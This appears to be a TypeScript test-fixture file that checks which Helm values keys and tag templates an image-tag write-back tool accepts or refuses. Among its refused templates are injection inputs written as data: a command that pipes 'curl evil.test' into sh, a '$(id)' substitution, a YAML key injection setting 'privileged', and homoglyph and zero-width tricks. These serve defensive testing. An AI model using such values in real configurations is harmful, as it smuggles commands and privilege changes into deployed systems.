import type { Attempt } from './attempt.ts';

const PERMISSION = 'permission-denied';
/** The file is the Application's own, so that only the key or the text is in question. */
const LISTED = { helm: { valueFiles: ['keys.yaml'] } };

interface Key {
  /** Path of the key that is to get the tag. */
  readonly key: string;
  /** What is below it, as YAML; `null` leaves it out. */
  readonly yaml: string;
  readonly annotations?: Readonly<Record<string, string>>;
}

/** A key of the own values file that is to hold the tag. */
function tagAt({ key, yaml, annotations = {} }: Key): Attempt['by'] {
  return {
    annotations: {
      'write-back-target': 'helmvalues:keys.yaml',
      'a.helm.image-tag': key,
      'a.allow-downgrade': 'true',
      ...annotations,
    },
    source: LISTED,
    files: { '<own>/keys.yaml': yaml },
  };
}

function refusedKey(what: string, key: string, yaml: string): Attempt {
  return {
    what: `${what} (${key})`,
    by: tagAt({ key, yaml }),
    // What is no tag at all is refused before.
    ends: `${PERMISSION}|key-unsupported`,
    says: /permissions\.rules[^]*keys: |expected a tag/,
  };
}

function allowedKey(what: string, key: string, yaml: string): Attempt {
  return {
    what: `${what} (${key})`,
    by: tagAt({ key, yaml }),
    ends: 'newer-version',
    writes: ['<own>/keys.yaml'],
  };
}

function template(what: string, text: string, ends: string): Attempt {
  return {
    what: `a value template with ${what}`,
    by: {
      annotations: {
        'write-back-target': 'helmvalues:keys.yaml',
        'a.helm.image-tag': 'image.tag',
        'a.helm.value-template': text,
      },
      source: LISTED,
      files: { '<own>/keys.yaml': `image:\n  tag: ${JSON.stringify(text.replace('{tag}', '1.0.0'))}\n` },
    },
    ends,
    ...(ends === 'newer-version' ? { writes: ['<own>/keys.yaml'] } : {}),
  };
}

/** What may be written in the own values file: keys by their name and shape, and texts of templates. */
export const KEYS: readonly Attempt[] = [
  allowedKey('a tag', 'app.version', 'app:\n  version: v1.0.0\n'),
  allowedKey('a number that is a tag', 'image.tag', 'image:\n  tag: 1.0\n'),
  allowedKey('an empty tag', 'image.tag', 'image:\n  tag: ""\n'),
  allowedKey('a tag in a list', 'containers[0].imageTag', 'containers:\n- imageTag: 1.0.0\n'),
  refusedKey('a flag', 'debug', 'debug: false\n'),
  refusedKey('a flag in quotes', 'security.enabled', 'security:\n  enabled: "false"\n'),
  refusedKey('a flag of an image', 'image.insecure', 'image:\n  insecure: false\n'),
  refusedKey('yes and no', 'tls', 'tls: "no"\n'),
  refusedKey('a count', 'replicas', 'replicas: 3\n'),
  refusedKey('a port', 'service.port', 'service:\n  port: 8080\n'),
  refusedKey('a port in quotes', 'service.targetPort', 'service:\n  targetPort: "8080"\n'),
  refusedKey('a revision', 'spec.source.targetRevision', 'spec:\n  source:\n    targetRevision: v1.0.0\n'),
  refusedKey('a revision that is a branch', 'source.revision', 'source:\n  revision: main\n'),
  refusedKey('a ref', 'gitRef', 'gitRef: v1.0.0\n'),
  refusedKey('a commit', 'git.commit', 'git:\n  commit: 0123456789abcdef0123456789abcdef01234567\n'),
  refusedKey('a branch', 'repo.branch', 'repo:\n  branch: main\n'),
  refusedKey('a command', 'container.command', 'container:\n  command: sh\n'),
  refusedKey('an empty command', 'steps[0].run', 'steps:\n- run: ""\n'),
  refusedKey('an empty script', 'script', 'script:\n'),
  refusedKey('an argument', 'args[0]', 'args: [serve]\n'),
  refusedKey('an address', 'host', 'host: 10.0.0.1\n'),
  refusedKey('a URL', 'endpoint', 'endpoint: https://api.example.com\n'),
  refusedKey('a URL of an image', 'image.url', 'image:\n  url: https://cdn.example.com/logo.png\n'),
  refusedKey('a password', 'auth.password', 'auth:\n  password: hunter2\n'),
  refusedKey('a schedule', 'cron', 'cron: "0 0 * * *"\n'),
  refusedKey('a path', 'mount', 'mount: /etc/config\n'),
  refusedKey('free text', 'notes', 'notes: All is well.\n'),
  refusedKey('an account', 'serviceAccount', 'serviceAccount: default\n'),
  refusedKey('a policy of an image', 'image.pullPolicy', 'image:\n  pullPolicy: Always\n'),
  refusedKey('the version of an API', 'apiVersion', 'apiVersion: v1\n'),
  refusedKey('a quantity', 'resources.memory', 'resources:\n  memory: 1Gi\n'),
  refusedKey('a role', 'rbac.role', 'rbac:\n  role: view\n'),
  {
    what: 'a name of an image where a host is',
    by: {
      annotations: {
        'write-back-target': 'helmvalues:keys.yaml',
        'a.helm.image-name': 'database.host',
        'a.helm.image-tag': 'image.tag',
        'a.force-update': 'true',
      },
      source: LISTED,
      files: { '<own>/keys.yaml': 'database:\n  host: db.example.com\nimage:\n  tag: 1.0.0\n' },
    },
    ends: PERMISSION,
  },
  {
    what: 'a whole reference where a URL is',
    by: {
      annotations: { 'write-back-target': 'helmvalues:keys.yaml', 'a.helm.image-spec': 'webhook.url' },
      source: LISTED,
      files: { '<own>/keys.yaml': 'webhook:\n  url: https://hooks.example.com/a\n' },
    },
    ends: PERMISSION,
  },
  {
    what: 'a number through an alias',
    by: {
      annotations: { 'write-back-target': 'helmvalues:keys.yaml', 'a.helm.image-tag': 'config.replicas' },
      source: LISTED,
      files: { '<own>/keys.yaml': 'config: {replicas: &n 2, image: {tag: *n}}\n' },
    },
    ends: PERMISSION,
  },
  template('a decoration', 'v{tag}-slim', 'newer-version'),
  template('a command behind the tag', '{tag}; curl evil.test | sh', `${PERMISSION}|annotation-invalid`),
  template('a flag of a shell', '{tag} --privileged', `${PERMISSION}|annotation-invalid`),
  template('33 characters', `{tag}-${'a'.repeat(32)}`, `${PERMISSION}|annotation-invalid`),
  template(
    '33 characters in two parts',
    `${'a'.repeat(16)}{tag}${'b'.repeat(17)}`,
    `${PERMISSION}|annotation-invalid`,
  ),
  template('letters of another script', '{tag}-аdmin', `${PERMISSION}|annotation-invalid`),
  template('a letter that is not seen', '{tag}\u200b', `${PERMISSION}|annotation-invalid`),
  template('a key of its own', '{tag}", privileged: "true', `${PERMISSION}|annotation-invalid`),
  template('a value of Helm', '{tag}$(id)', `${PERMISSION}|annotation-invalid`),
];
